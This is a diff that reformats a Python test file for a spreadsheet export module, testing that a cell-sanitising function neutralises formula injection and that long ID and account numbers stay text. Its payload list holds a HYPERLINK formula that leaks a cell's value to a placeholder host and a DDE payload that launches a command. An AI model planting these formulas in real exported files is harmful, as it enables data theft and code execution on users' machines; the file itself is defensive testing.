@@ -14,7 +14,15 @@ from canlian.platform.exports import Sheet, csv_bytes, safe_cell, xlsx_bytes
 from canlian.programs.cycles import actions as cycles
 from canlian.programs.models import Enrollment
 
-PAYLOADS = ["=HYPERLINK(\"http://x/?\"&C2,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+PAYLOADS = [
+    '=HYPERLINK("http://x/?"&C2,"点击")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
 
 
 def test_safe_cell():
@@ -77,7 +85,12 @@ def test_long_digit_strings_stay_text_in_csv_and_xlsx():
     data, _n = csv_bytes(["身份证号", "尾号X", "账号", "电话", "短号", "数"], [row])
     cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
     # led by a tab (Excel/WPS: text, not 3.70502E+17) and intact once stripped
-    assert cells[:4] == ["\t370502198001011234", "\t37050219800101123X", "\t6222021234567890123", "\t05461234567"]
+    assert cells[:4] == [
+        "\t370502198001011234",
+        "\t37050219800101123X",
+        "\t6222021234567890123",
+        "\t05461234567",
+    ]
     assert [c.strip() for c in cells[:4]] == row[:4]
     assert cells[4:] == ["12345", "88"]  # short numbers are left alone
     book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["a"] * 6, [row])])[0]))
